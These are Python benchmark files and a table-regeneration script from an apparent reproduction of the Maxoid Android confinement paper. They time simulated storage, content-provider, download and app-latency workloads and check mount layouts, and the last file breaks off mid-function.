    """Query the three-source ``audio`` view as a delegate."""
    proxy = media_like_proxy()
    proxy.insert(
        "files",
        A,
        {"_data": "/v.mp3", "media_type": 2, "title": "volatile-song",
         "artist_id": 1, "album_id": 1},
    )
    result = benchmark(proxy.query, "audio", A, projection=["title", "artist"])
    titles = [r[0] for r in result.rows]
    assert "volatile-song" in titles
    assert len(result.rows) == 51
