"""Figure 3: the Maxoid system architecture.

The figure is the component wiring diagram: new/modified components
(Activity Manager additions, Zygote's branch manager, the kernel context
tracking, the COW proxy inside system content providers) around stock
Android. The bench boots a device and asserts every pictured component is
present and wired, timing cold boot; the stock boot is the baseline
showing what Maxoid adds.
"""

from __future__ import annotations

import pytest

from repro import Device


@pytest.mark.benchmark(group="fig3-boot")
def bench_boot_maxoid(benchmark):
    device = benchmark(Device, maxoid_enabled=True)
    # Kernel: context tracking + binder policy + network guard.
    assert device.sysfs is not None
    assert device.binder._policy is not None  # Maxoid restriction installed
    # Zygote with the branch manager hook.
    assert device.zygote is not None
    assert device.branches is not None
    # Activity Manager with the delegation guard.
    assert device.am is not None
    assert device.ipc_guard is not None
    # System content providers on the COW proxy.
    for provider in (device.user_dictionary, device.downloads, device.media):
        assert provider.proxy is not None
    # Modified services + Launcher.
    assert device.clipboard and device.bluetooth and device.telephony
    assert device.launcher is not None
    assert device.maxoid_service is not None


@pytest.mark.benchmark(group="fig3-boot")
def bench_boot_stock(benchmark):
    device = benchmark(Device, maxoid_enabled=False)
    # Same framework, no Maxoid hooks.
    assert device.binder._policy is None
    assert device.ipc_guard is None
