"""Table 2: the Aufs mount points for an initiator A and a delegate B^A.

The benchmark times namespace construction (what Zygote does per fork) and
asserts the exact branch layout the paper's table lists. Run with ``-s``
to see the mount tables printed in the paper's notation.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device, MaxoidManifest
from repro.android.storage import DATA_ROOT, EXTDIR

A = "com.example.A"
B = "com.example.B"


class _Nop:
    def main(self, api, intent):
        return None


@pytest.fixture
def table2_device():
    device = Device(maxoid_enabled=True)
    device.install(
        AndroidManifest(package=A, maxoid=MaxoidManifest(private_ext_dirs=["data/A"])),
        _Nop(),
    )
    device.install(
        AndroidManifest(package=B, maxoid=MaxoidManifest(private_ext_dirs=["data/B"])),
        _Nop(),
    )
    return device


@pytest.mark.benchmark(group="table2-namespace-build")
def bench_initiator_namespace(benchmark, table2_device):
    """Namespace construction for A (single-branch mounts)."""
    process = benchmark(table2_device.zygote.fork_app, A)
    table = {
        point: fs
        for point, fs in process.namespace.mount_table().items()
        if hasattr(fs, "describe")
    }
    # Table 2, initiator column.
    assert table[EXTDIR].describe() == ["pub(rw)"]
    assert table[f"{EXTDIR}/data/A"].describe() == ["A/data/A(rw)"]
    assert table[f"{EXTDIR}/tmp"].describe() == ["A/tmp(rw)"]
    print("\nMounts for A:")
    for point in sorted(table):
        print(f"  {point}: {', '.join(table[point].describe())}")


@pytest.mark.benchmark(group="table2-namespace-build")
def bench_delegate_namespace(benchmark, table2_device):
    """Namespace construction for B^A (two-branch mounts)."""
    process = benchmark(table2_device.zygote.fork_app, B, A)
    table = {
        point: fs
        for point, fs in process.namespace.mount_table().items()
        if hasattr(fs, "describe")
    }
    # Table 2, B^A column.
    assert table[EXTDIR].describe() == ["A/tmp(rw)", "pub(ro)"]
    assert table[f"{EXTDIR}/data/A"].describe() == ["A/tmp/data/A(rw)", "A/data/A(ro)"]
    assert table[f"{EXTDIR}/data/B"].describe() == ["B-A/data/B(rw)", "B/data/B(ro)"]
    # EXTDIR/tmp is N/A for delegates (no mount).
    assert f"{EXTDIR}/tmp" not in table
    # Plus the internal-storage mounts of section 4.2.
    assert table[f"{DATA_ROOT}/{B}"].describe() == ["B-A/int(rw)", "B/int(ro)"]
    assert table[f"{DATA_ROOT}/{A}"].describe() == ["A/tmp-int(rw)", "A/int(ro)"]
    print("\nMounts for B^A:")
    for point in sorted(table):
        print(f"  {point}: {', '.join(table[point].describe())}")


@pytest.mark.benchmark(group="table2-namespace-build")
def bench_stock_namespace(benchmark):
    """Baseline: a stock-Android fork has no per-app mounts at all."""
    device = Device(maxoid_enabled=False)
    device.install(AndroidManifest(package=A), _Nop())
    process = benchmark(device.zygote.fork_app, A)
    assert process.namespace.mount_points() == ["/", EXTDIR]
