"""Table 5: user-perceivable application task latency.

Paper tasks: Adobe Reader open a 1.6 MB file / in-file search; CamScanner
process a scanned page; CameraMX take a photo / save an edited photo —
each on Android, as a Maxoid initiator, and as a Maxoid delegate.

Two outputs:

1. pytest-benchmark times the *simulated I/O portion* of each task under
   each configuration (this is all Maxoid can affect);
2. each test also reports the modelled end-to-end latency by combining the
   paper's Android-column baselines with the measured I/O scale factor
   (see :mod:`repro.workloads.latency`) — run with ``-s`` to see it. The
   paper's claim reproduces iff the modelled Maxoid columns stay within a
   few percent of the baseline.
"""

from __future__ import annotations

import pytest

from repro import AndroidManifest, Device, Intent
from repro.apps import CamScannerApp, CameraApp, PdfViewerApp
from repro.workloads.generators import deterministic_bytes
from repro.workloads.latency import TASK_BASELINES_MS, modelled_task_latency

INITIATOR = "com.bench.initiator"
DOC_SIZE = 1_600_000  # the paper's 1.6 MB PDF


class _Nop:
    def main(self, api, intent):
        return None


def env_for(config: str):
    device = Device(maxoid_enabled=config != "android")
    device.install(AndroidManifest(package=INITIATOR), _Nop())
    adobe = PdfViewerApp.install(device)
    camscanner = CamScannerApp.install(device)
    camera = CameraApp.install(device)
    return device, {"adobe": adobe, "camscanner": camscanner, "camera": camera}


def spawn(device, package, config):
    if config == "delegate":
        return device.spawn(package, initiator=INITIATOR)
    return device.spawn(package)


def report(task: str, config: str, io_ms: float, baseline_io_ms: float) -> None:
    scale = io_ms / baseline_io_ms if baseline_io_ms > 0 else 1.0
    total = modelled_task_latency(task, scale)
    print(
        f"\n[table5] {task} ({config}): measured sim I/O {io_ms:.3f} ms, "
        f"io-scale {scale:.2f}x -> modelled latency {total:.0f} ms "
        f"(paper Android column: {TASK_BASELINES_MS[task]:.0f} ms)"
    )


# A module-level cache of baseline (android) I/O times per task so the
# delegate/initiator runs can report a scale factor.
_BASELINES = {}


def _remember(task: str, config: str, mean_ms: float):
    if config == "android":
        _BASELINES[task] = mean_ms
    baseline = _BASELINES.get(task, mean_ms)
    report(task, config, mean_ms, baseline)


@pytest.fixture(params=["android", "initiator", "delegate"])
def config(request):
    return request.param


@pytest.mark.benchmark(group="table5-adobe-open")
def bench_adobe_open(benchmark, config):
    """Open a 1.6 MB document: read + recents write (+ render, unmeasured)."""
    device, apps = env_for(config)
    owner = device.spawn(PdfViewerApp.BUILD.package)
    owner.write_internal("docs/big.pdf", deterministic_bytes(DOC_SIZE))
    api = spawn(device, PdfViewerApp.BUILD.package, config)
    intent = Intent(
        Intent.ACTION_VIEW,
        extras={"path": f"/data/data/{PdfViewerApp.BUILD.package}/docs/big.pdf"},
    )

    result = benchmark(apps["adobe"].main, api, intent)
    assert result["bytes"] == DOC_SIZE
    _remember("adobe_open_1_6mb", config, benchmark.stats["mean"] * 1000)


@pytest.mark.benchmark(group="table5-adobe-search")
def bench_adobe_search(benchmark, config):
    """In-file search: pure CPU over the loaded document."""
    device, apps = env_for(config)
    api = spawn(device, PdfViewerApp.BUILD.package, config)
    document = deterministic_bytes(DOC_SIZE)

    count = benchmark(apps["adobe"].search, api, document, b"\x42\x17")
    assert count >= 0
    _remember("adobe_in_file_search", config, benchmark.stats["mean"] * 1000)


@pytest.mark.benchmark(group="table5-camscanner")
def bench_camscanner_page(benchmark, config):
    """Process a scanned page: private DB + 3 SD-card writes."""
    device, apps = env_for(config)
    api = spawn(device, CamScannerApp.BUILD.package, config)
    source = api.write_external("input/page.jpg", deterministic_bytes(200_000))
    state = {"i": 0}

    def run():
        state["i"] += 1
        return apps["camscanner"].main(
            api, Intent(Intent.ACTION_SCAN, extras={"path": source})
        )

    result = benchmark(run)
    assert result["name"] == "page.jpg"
    _remember("camscanner_process_page", config, benchmark.stats["mean"] * 1000)


@pytest.mark.benchmark(group="table5-camera-photo")
def bench_camera_take_photo(benchmark, config):
    """Take a photo: SD write + media scan."""
    device, apps = env_for(config)
    api = spawn(device, CameraApp.BUILD.package, config)
    frame = deterministic_bytes(300_000)

    def run():
        return apps["camera"].main(
            api, Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": frame})
        )

    result = benchmark(run)
    assert result["path"]
    _remember("cameramx_take_photo", config, benchmark.stats["mean"] * 1000)


@pytest.mark.benchmark(group="table5-camera-edit")
def bench_camera_save_edited(benchmark, config):
    """Save an edited photo: read original, write edit, media scan."""
    device, apps = env_for(config)
    api = spawn(device, CameraApp.BUILD.package, config)
    original = apps["camera"].main(
        api, Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": deterministic_bytes(300_000)})
    )

    def run():
        return apps["camera"].main(
            api, Intent(Intent.ACTION_EDIT, extras={"path": original["path"]})
        )

    result = benchmark(run)
    assert result["media_uri"]
    _remember("cameramx_save_edited", config, benchmark.stats["mean"] * 1000)
