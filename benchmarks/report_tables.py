"""Regenerate every table of the paper's evaluation in its own format.

Usage::

    python benchmarks/report_tables.py [--trials N] [--out FILE]

Prints Tables 1-5 (and the Figure 1 flow matrix) computed from the
simulation, side by side with the paper's reported numbers where they
exist. Absolute magnitudes differ (a pure-Python simulated kernel vs a
Nexus 7), but the *shape* — who pays overhead, orderings, zero-vs-nonzero
— is the reproduction target (see EXPERIMENTS.md).
"""

from __future__ import annotations

import argparse
import io
import sys

from repro import AndroidManifest, Device, Intent
from repro.android.content.provider import ContentValues
from repro.android.uri import Uri
from repro.apps import install_standard_apps
from repro.core.audit import figure1_flow_matrix, find_marker_in_files
from repro.workloads.generators import (
    deterministic_bytes,
    make_dictionary_words,
    make_image_files,
    publish_download_set,
)
from repro.workloads.harness import Measurement, measure, overhead_pct
from repro.workloads.latency import TASK_BASELINES_MS, modelled_task_latency
from repro.workloads.reports import pct, render_table

WORDS = Uri.content("user_dictionary", "words")
APP = "com.report.app"
INITIATOR = "com.report.initiator"


class _Nop:
    def main(self, api, intent):
        return None


def fresh(maxoid: bool) -> Device:
    device = Device(maxoid_enabled=maxoid)
    device.install(AndroidManifest(package=APP), _Nop())
    device.install(AndroidManifest(package=INITIATOR), _Nop())
    return device


def api_for(device: Device, config: str):
    if config == "delegate":
        return device.spawn(APP, initiator=INITIATOR)
    return device.spawn(APP)


# ---------------------------------------------------------------------------
# Table 1
# ---------------------------------------------------------------------------


def table1() -> str:
    rows = []
    marker = b"MARKER-T1"
    for mode in ("android", "maxoid"):
        maxoid = mode == "maxoid"

        def census_row(app_label, operation, private_trace, public_hits):
            rows.append(
                [
                    mode,
                    app_label,
                    operation,
                    private_trace or "(none)",
                    f"{public_hits} public item(s)" if public_hits else "(none)",
                ]
            )

        # --- document viewer (Adobe Reader over an Email attachment) -----
        device = Device(maxoid_enabled=maxoid)
        apps = install_standard_apps(device)
        email = device.spawn("com.android.email")
        attachment_id = apps["com.android.email"].receive_attachment(
            email, "doc.pdf", marker
        )
        apps["com.android.email"].view_attachment(email, attachment_id)
        observer = device.spawn("com.google.zxing.client.android")
        public_hits = find_marker_in_files(observer, marker, roots=["/storage/sdcard"])
        recents = device.spawn("com.adobe.reader").prefs.get("recent_files")
        census_row(
            "Adobe Reader", "open a file",
            "XML: recent files" if recents else None, len(public_hits),
        )
        # --- scanner (Barcode Scanner) ------------------------------------
        device = Device(maxoid_enabled=maxoid)
        apps = install_standard_apps(device)
        scan_intent = Intent(Intent.ACTION_SCAN, extras={"qr_payload": "MARKER-qr"})
        if maxoid:
            device.launch_as_delegate(
                "com.google.zxing.client.android", "com.android.browser", scan_intent
            )
        else:
            apps["com.google.zxing.client.android"].main(
                device.spawn("com.google.zxing.client.android"), scan_intent
            )
        history = apps["com.google.zxing.client.android"].recent_scans(
            device.spawn("com.google.zxing.client.android")
        )
        census_row("Barcode Scanner", "scan a QR code",
                   "DB: recent scans" if history else None, 0)
        # --- photo (CameraMX) -----------------------------------------------
        device = Device(maxoid_enabled=maxoid)
        apps = install_standard_apps(device)
        photo_intent = Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": marker})
        if maxoid:
            result = device.launch_as_delegate(
                "com.magix.camera_mx", "org.maxoid.wrapper", photo_intent
            ).result
        else:
            result = apps["com.magix.camera_mx"].main(
                device.spawn("com.magix.camera_mx"), photo_intent
            )
        observer = device.spawn("com.adobe.reader")
        photo_public = observer.sys.exists(result["path"])
        media_rows = len(observer.query(Uri.content("media", "files")).rows)
        census_row("CameraMX", "take a photo", None,
                   int(photo_public) + media_rows)
        # --- media (VPlayer) --------------------------------------------------
        device = Device(maxoid_enabled=maxoid)
        apps = install_standard_apps(device)
        wrapper = device.spawn("org.maxoid.wrapper")
        apps["org.maxoid.wrapper"].add_document(wrapper, "clip.mp4", marker)
        view_intent = Intent(
            Intent.ACTION_VIEW,
            extras={"path": "/storage/sdcard/wrapper-vault/clip.mp4"},
        )
        if maxoid:
            result = device.am.start_activity(
                wrapper.process,
                Intent(
                    Intent.ACTION_VIEW,
                    component="me.abitno.vplayer.t",
                    extras=view_intent.extras,
                ),
            ).result
        else:
            owner = device.spawn("me.abitno.vplayer.t")
            result = apps["me.abitno.vplayer.t"].main(owner, view_intent)
        history = apps["me.abitno.vplayer.t"].playback_history(
            device.spawn("me.abitno.vplayer.t")
        )
        thumb_public = device.spawn("com.adobe.reader").sys.exists(result["thumbnail"])
        census_row("VPlayer", "play a video",
                   "DB: playback history" if history else None, int(thumb_public))
    return render_table(
        ["System", "App", "Operation", "Private trace", "Public trace visible to others"],
        rows,
        title="Table 1 — state left after apps process their target data",
    )


# ---------------------------------------------------------------------------
# Table 2
# ---------------------------------------------------------------------------


def table2() -> str:
    from repro.core.manifest import MaxoidManifest

    device = Device(maxoid_enabled=True)
    device.install(
        AndroidManifest(package="A", maxoid=MaxoidManifest(private_ext_dirs=["data/A"])),
        _Nop(),
    )
    device.install(
        AndroidManifest(package="B", maxoid=MaxoidManifest(private_ext_dirs=["data/B"])),
        _Nop(),
    )
    a = device.zygote.fork_app("A")
    ba = device.zygote.fork_app("B", "A")
    rows = []
    points = sorted(
        set(a.namespace.mount_points()) | set(ba.namespace.mount_points())
    )
    for point in points:
        if point == "/":
            continue

        def describe(process):
            table = process.namespace.mount_table()
            fs = table.get(point)
            if fs is None or not hasattr(fs, "describe"):
                return "N/A" if fs is None else "(plain)"
            return ", ".join(fs.describe())

        rows.append([point, describe(a), describe(ba)])
    return render_table(
        ["Mount point", "Branches for A", "Branches for B^A"],
        rows,
        title="Table 2 — Aufs mount points (paper notation: label(rw|ro))",
    )


# ---------------------------------------------------------------------------
# Table 3
# ---------------------------------------------------------------------------


PAPER_TABLE3 = {
    # (row, config) -> paper overhead %
    ("cpu", "initiator"): 0.0,
    ("cpu", "delegate"): 0.0,
    ("read 4KB", "delegate"): 7.5,
    ("write 4KB", "delegate"): 31.7,
    ("append 4KB", "delegate"): 58.7,
    ("read 1MB", "delegate"): 4.8,
    ("write 1MB", "delegate"): 18.1,
    ("append 1MB", "delegate"): 52.8,
    ("dict insert", "initiator"): 1.3,
    ("dict insert", "delegate"): 8.1,
    ("dict update", "initiator"): 0.4,
    ("dict update", "delegate"): 16.1,
    ("dict query 1", "initiator"): 0.5,
    ("dict query 1", "delegate"): 5.6,
    ("dict query 1k", "initiator"): 0.2,
    ("dict query 1k", "delegate"): 13.7,
    ("dict delete", "initiator"): 1.0,
    ("dict delete", "delegate"): 17.3,
}


def _file_measurements(config: str, size: int, trials: int):
    device = fresh(maxoid=config != "android")
    payload = deterministic_bytes(size)
    owner = device.spawn(APP)
    for index in range(256):
        owner.write_internal(f"bench/pre{index}.bin", payload)
    api = api_for(device, config)
    counters = {"read": 0, "write": 0, "append": 0}

    def read_op():
        counters["read"] += 1
        api.sys.read_file(f"/data/data/{APP}/bench/pre{counters['read'] % 256}.bin")

    def write_op():
        counters["write"] += 1
        api.write_internal(f"bench/w{counters['write']}.bin", payload)

    def append_op():
        counters["append"] += 1
        api.sys.append_file(
            f"/data/data/{APP}/bench/pre{counters['append'] % 256}.bin", b"+x"
        )

    return (
        measure(read_op, trials=trials, label=f"read-{config}"),
        measure(write_op, trials=trials, label=f"write-{config}"),
        measure(append_op, trials=trials, label=f"append-{config}"),
    )


def _dict_measurements(config: str, trials: int):
    device = fresh(maxoid=config != "android")
    owner = device.spawn(INITIATOR)
    for word in make_dictionary_words(1000):
        owner.insert(WORDS, ContentValues({"word": word}))
    api = api_for(device, config)
    if config == "delegate":
        for row in range(1, 51):
            api.update(WORDS.with_appended_id(row), ContentValues({"frequency": 2}))
    state = {"i": 0}

    def insert_op():
        state["i"] += 1
        api.insert(WORDS, ContentValues({"word": f"new{state['i']}"}))

    def update_op():
        state["i"] += 1
        api.update(
            WORDS.with_appended_id((state["i"] % 1000) + 1),
            ContentValues({"frequency": state["i"]}),
        )

    def query_one_op():
        state["i"] += 1
        api.query(WORDS.with_appended_id((state["i"] % 1000) + 1), projection=["word"])

    def query_all_op():
        api.query(WORDS, projection=["word"], order_by="_id")

    def delete_op():
        state["i"] += 1
        api.delete(WORDS.with_appended_id((state["i"] % 1000) + 1))

    return {
        "dict insert": measure(insert_op, trials=trials),
        "dict update": measure(update_op, trials=trials),
        "dict query 1": measure(query_one_op, trials=trials),
        "dict query 1k": measure(query_all_op, trials=max(3, trials // 5)),
        "dict delete": measure(delete_op, trials=trials),
    }


def table3(trials: int) -> str:
    rows = []
    # CPU-bound: identical code under every configuration.
    def cpu_op():
        total = 0
        for i in range(2000):
            total = (total * 31 + i) % 1000003
        return total

    cpu = {
        config: measure(cpu_op, trials=trials, label=config)
        for config in ("android", "initiator", "delegate")
    }
    for config in ("initiator", "delegate"):
        rows.append(
            [
                "cpu",
                config,
                pct(overhead_pct(cpu["android"], cpu[config])),
                pct(PAPER_TABLE3.get(("cpu", config), 0.0)),
            ]
        )
    for size, size_name in ((4096, "4KB"), (1024 * 1024, "1MB")):
        measured = {
            config: _file_measurements(config, size, trials)
            for config in ("android", "initiator", "delegate")
        }
        for op_index, op_name in enumerate(("read", "write", "append")):
            for config in ("initiator", "delegate"):
                key = (f"{op_name} {size_name}", config)
                rows.append(
                    [
                        f"{op_name} {size_name}",
                        config,
                        pct(overhead_pct(measured["android"][op_index], measured[config][op_index])),
                        pct(PAPER_TABLE3[key]) if key in PAPER_TABLE3 else "~0%",
                    ]
                )
    dictionary = {
        config: _dict_measurements(config, trials)
        for config in ("android", "initiator", "delegate")
    }
    for op_name in ("dict insert", "dict update", "dict query 1", "dict query 1k", "dict delete"):
        for config in ("initiator", "delegate"):
            rows.append(
                [
                    op_name,
                    config,
                    pct(overhead_pct(dictionary["android"][op_name], dictionary[config][op_name])),
                    pct(PAPER_TABLE3[(op_name, config)]),
                ]
            )
    return render_table(
        ["Operation", "Setup", "Measured overhead", "Paper overhead"],
        rows,
        title="Table 3 — microbenchmark overheads vs unmodified Android",
    )


# ---------------------------------------------------------------------------
# Table 4
# ---------------------------------------------------------------------------


def table4(trials: int) -> str:
    rows = []
    paper = {
        ("download", "android"): "7.29±0.39 s",
        ("download", "maxoid-public"): "7.13±0.28 s",
        ("download", "maxoid-volatile"): "7.23±0.21 s",
        ("scan", "android"): "1.54±0.02 s",
        ("scan", "maxoid-public"): "1.54±0.02 s",
        ("scan", "maxoid-volatile"): "1.55±0.02 s",
    }
    for setup in ("android", "maxoid-public", "maxoid-volatile"):
        maxoid = setup != "android"
        volatile = setup == "maxoid-volatile"

        def download_run():
            device = fresh(maxoid)
            publish_download_set(device, count=100)
            api = device.spawn(APP)
            for index in range(100):
                api.enqueue_download(
                    f"https://bench.example.com/dl{index:04d}.bin",
                    f"dl{index:04d}.bin",
                    volatile=volatile,
                )
            device.run_downloads()

        m = measure(download_run, trials=max(2, trials // 20))
        rows.append(["download 100x1KB", setup, str(m), paper[("download", setup)]])
    for setup in ("android", "maxoid-public", "maxoid-volatile"):
        maxoid = setup != "android"
        volatile = setup == "maxoid-volatile"

        def scan_run():
            device = fresh(maxoid)
            api = device.spawn(APP)
            for path in make_image_files(api, count=20, size=64 * 1024):
                api.scan_media(path, volatile=volatile)

        m = measure(scan_run, trials=max(2, trials // 20))
        rows.append(["scan 20 images*", setup, str(m), paper[("scan", setup)]])
    table = render_table(
        ["Workload", "Setup", "Measured (sim)", "Paper (Nexus 7)"],
        rows,
        title="Table 4 — Downloads and Media provider workloads",
    )
    return table + "\n(* image count scaled 100 -> 20 for run time; shape is unaffected)"


# ---------------------------------------------------------------------------
# Table 5
# ---------------------------------------------------------------------------


def table5(trials: int) -> str:
    from repro.apps import CamScannerApp, CameraApp, PdfViewerApp

    rows = []
    tasks = {
        "adobe_open_1_6mb": "Adobe Reader: open 1.6MB file",
        "adobe_in_file_search": "Adobe Reader: in-file search",
        "camscanner_process_page": "CamScanner: process page",
        "cameramx_take_photo": "CameraMX: take photo",
        "cameramx_save_edited": "CameraMX: save edited photo",
    }
    io_times = {}
    for config in ("android", "initiator", "delegate"):
        device = Device(maxoid_enabled=config != "android")
        device.install(AndroidManifest(package=INITIATOR), _Nop())
        adobe = PdfViewerApp.install(device)
        camscanner = CamScannerApp.install(device)
        camera = CameraApp.install(device)

        def spawn(package):
            if config == "delegate":
                return device.spawn(package, initiator=INITIATOR)
            return device.spawn(package)

        owner = device.spawn(PdfViewerApp.BUILD.package)
        owner.write_internal("docs/big.pdf", deterministic_bytes(1_600_000))
        viewer = spawn(PdfViewerApp.BUILD.package)
        open_intent = Intent(
            Intent.ACTION_VIEW,
            extras={"path": f"/data/data/{PdfViewerApp.BUILD.package}/docs/big.pdf"},
        )
        document = deterministic_bytes(1_600_000)
        scanner_api = spawn(CamScannerApp.BUILD.package)
        page = scanner_api.write_external("in/page.jpg", deterministic_bytes(200_000))
        camera_api = spawn(CameraApp.BUILD.package)
        frame = deterministic_bytes(300_000)
        photo = camera.main(
            camera_api, Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": frame})
        )
        ops = {
            "adobe_open_1_6mb": lambda: adobe.main(viewer, open_intent),
            "adobe_in_file_search": lambda: adobe.search(viewer, document, b"\x42\x17"),
            "camscanner_process_page": lambda: camscanner.main(
                scanner_api, Intent(Intent.ACTION_SCAN, extras={"path": page})
            ),
            "cameramx_take_photo": lambda: camera.main(
                camera_api, Intent(Intent.ACTION_IMAGE_CAPTURE, extras={"frame": frame})
            ),
            "cameramx_save_edited": lambda: camera.main(
                camera_api, Intent(Intent.ACTION_EDIT, extras={"path": photo["path"]})
            ),
        }
        io_times[config] = {
            task: measure(op, trials=max(3, trials // 10)).mean_ms
            for task, op in ops.items()
        }
    for task, label in tasks.items():
        base = io_times["android"][task]
        row = [label, f"{TASK_BASELINES_MS[task]:.0f} ms"]
        for config in ("initiator", "delegate"):
            scale = io_times[config][task] / base if base > 0 else 1.0
            row.append(f"{modelled_task_latency(task, scale):.0f} ms")
        rows.append(row)
    return render_table(
        ["Task", "Android (paper)", "Maxoid initiator (modelled)", "Maxoid delegate (modelled)"],
        rows,
        title="Table 5 — user-perceivable task latency (paper baseline + measured sim I/O scale)",
    )


# ---------------------------------------------------------------------------


def figure1() -> str:
    device = Device(maxoid_enabled=True)
    device.install(AndroidManifest(package="com.fig.a"), _Nop())
    device.install(AndroidManifest(package="com.fig.b"), _Nop())
    device.network.add_host("example.com")
    checks = figure1_flow_matrix(device, "com.fig.a", "com.fig.b")
    rows = [
        [c.description, "yes" if c.expected else "no", "yes" if c.observed else "no",
         "OK" if c.ok else "MISMATCH"]
        for c in checks
    ]
    return render_table(
        ["Flow", "Figure 1 allows", "Observed", "Verdict"],
        rows,
        title="Figure 1 — information-flow matrix",
    )


def bench_layers(trials: int, perfetto: str = None, folded: str = None) -> tuple:
    """Per-layer self-times plus the critical-path/latency profile over a
    traced delegate workload (``layers`` and ``profile`` sections of
    ``BENCH_obs.json``). Optionally exports the trace itself as a
    Perfetto-loadable JSON and/or a folded-stacks flamegraph file."""
    from repro.obs import OBS, critical_paths, latency_summary
    from repro.obs.artifacts import layer_section
    from repro.obs.export import write_chrome_trace, write_folded_stacks

    device = fresh(maxoid=True)
    payload = deterministic_bytes(4096)
    with OBS.capture(ring_capacity=65536, profile=True) as obs:
        api = api_for(device, "delegate")
        for index in range(max(1, trials)):
            api.write_external(f"bench/art{index}.bin", payload)
            api.sys.read_file(f"/storage/sdcard/bench/art{index}.bin")
            api.insert(WORDS, ContentValues({"word": f"w{index}"}))
        spans = obs.spans()
        trees = obs.trees()
        snapshot = obs.metrics.snapshot()
    if perfetto:
        write_chrome_trace(perfetto, trees)
    if folded:
        write_folded_stacks(folded, trees)
    reports = critical_paths(trees)
    profile = {
        "critical_path": reports[0].to_dict() if reports else {},
        "min_coverage": round(min((r.coverage for r in reports), default=1.0), 6),
        "latency": latency_summary(snapshot),
    }
    return layer_section(spans), profile


def write_bench_json(path: str, trials: int, perfetto: str = None, folded: str = None) -> None:
    """Emit the machine-readable artifact next to the printed tables.

    Every section write also refreshes the stamped ``run`` metadata
    (schema version, python/platform, git sha) the regression gate keys
    compatibility on.
    """
    from repro.obs.artifacts import update_bench_json

    layers, profile = bench_layers(trials, perfetto=perfetto, folded=folded)
    update_bench_json(path, "layers", layers)
    update_bench_json(path, "profile", profile)
    # The disabled-gate ratio sections (gate_overhead_obs/faults) are
    # contributed by the overhead regressions when run with
    # BENCH_OBS_JSON pointing at the same file.
    update_bench_json(path, "meta", {"trials": trials, "source": "report_tables"})


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--trials", type=int, default=40, help="trials per micro-op")
    parser.add_argument("--out", type=str, default=None, help="also write to this file")
    parser.add_argument(
        "--bench-json",
        type=str,
        default=None,
        metavar="PATH",
        help="also write machine-readable per-layer self-times to PATH "
        "(BENCH_obs.json convention; merged with existing sections)",
    )
    parser.add_argument(
        "--perfetto",
        type=str,
        default=None,
        metavar="PATH",
        help="export the traced delegate workload as Chrome/Perfetto "
        "trace-event JSON (open in ui.perfetto.dev)",
    )
    parser.add_argument(
        "--folded",
        type=str,
        default=None,
        metavar="PATH",
        help="export the traced delegate workload as folded flamegraph stacks",
    )
    args = parser.parse_args()
    sections = [
        table1(),
        table2(),
        table3(args.trials),
        table4(args.trials),
        table5(args.trials),
        figure1(),
    ]
    text = ("\n\n" + "=" * 78 + "\n\n").join(sections)
    print(text)
    if args.out:
        with open(args.out, "w") as handle:
            handle.write(text + "\n")
    if args.bench_json or args.perfetto or args.folded:
        if args.bench_json:
            write_bench_json(
                args.bench_json, args.trials,
                perfetto=args.perfetto, folded=args.folded,
            )
        else:
            bench_layers(args.trials, perfetto=args.perfetto, folded=args.folded)
    return 0


if __name__ == "__main__":
    sys.exit(main())
