"""Section 7.1 use cases as end-to-end benchmarks: Dropbox, Email
attachments, incognito Browser, the wrapper app, EBookDroid pPriv."""

from __future__ import annotations

import pytest

from repro import Intent

DROPBOX = "com.dropbox.android"
EMAIL = "com.android.email"
BROWSER = "com.android.browser"
ADOBE = "com.adobe.reader"
EBOOK = "org.ebookdroid"
WRAPPER = "org.maxoid.wrapper"


@pytest.mark.benchmark(group="usecase-dropbox")
def bench_dropbox_open_edit_commit(benchmark, loaded_bench_device):
    """Sync a file, open it with a confined viewer, commit via tmp."""
    env = loaded_bench_device
    dbx = env.spawn(DROPBOX)
    env.apps[DROPBOX].sync_down(dbx, ["report.pdf"])
    state = {"i": 0}

    def cycle():
        state["i"] += 1
        delegate = env.spawn(ADOBE, initiator=DROPBOX)
        delegate.sys.write_file(
            "/storage/sdcard/Dropbox/report.pdf", b"edit %d" % state["i"]
        )
        committed = env.apps[DROPBOX].upload_from_tmp(dbx, "report.pdf")
        env.clear_volatile(DROPBOX)
        return committed

    committed = benchmark(cycle)
    assert committed == "/storage/sdcard/Dropbox/report.pdf"


@pytest.mark.benchmark(group="usecase-email")
def bench_email_view_attachment(benchmark, loaded_bench_device):
    env = loaded_bench_device
    em = env.spawn(EMAIL)
    attachment_id = env.apps[EMAIL].receive_attachment(em, "contract.pdf", b"%PDF secret")

    def view():
        return env.apps[EMAIL].view_attachment(em, attachment_id)

    invocation = benchmark(view)
    assert invocation.process.context.initiator == EMAIL


@pytest.mark.benchmark(group="usecase-incognito")
def bench_incognito_download_cycle(benchmark, loaded_bench_device):
    """Download in incognito, open the file, clear all traces."""
    env = loaded_bench_device

    def cycle():
        browser = env.spawn(BROWSER)
        env.apps[BROWSER].download(
            browser, "https://example.com/leaflet.pdf", "leaflet.pdf", incognito=True
        )
        env.run_downloads()
        note = env.downloads.notifications[-1]
        invocation = env.apps[BROWSER].open_download(browser, note)
        env.launcher.clear_vol(BROWSER)
        env.launcher.clear_priv(BROWSER)
        return invocation

    invocation = benchmark(cycle)
    assert invocation.process.context.initiator == BROWSER
    assert not env.spawn(ADOBE).sys.exists("/storage/sdcard/Download/leaflet.pdf")


@pytest.mark.benchmark(group="usecase-wrapper")
def bench_wrapper_incognito_session(benchmark, loaded_bench_device):
    env = loaded_bench_device
    wrapper = env.spawn(WRAPPER)
    env.apps[WRAPPER].add_document(wrapper, "taxes.pdf", b"%PDF taxes")

    def session():
        invocation = env.apps[WRAPPER].open_with_real_app(wrapper, "taxes.pdf")
        env.apps[WRAPPER].end_session(wrapper)
        return invocation

    invocation = benchmark(session)
    assert invocation.process.context.is_delegate


@pytest.mark.benchmark(group="usecase-ebookdroid")
def bench_ebookdroid_ppriv_recents(benchmark, loaded_bench_device):
    """The modified delegate: record recents in pPriv, survive re-fork."""
    env = loaded_bench_device
    ebook = env.apps[EBOOK]
    em = env.spawn(EMAIL)
    attachment_id = env.apps[EMAIL].receive_attachment(em, "book.pdf", b"%PDF book")
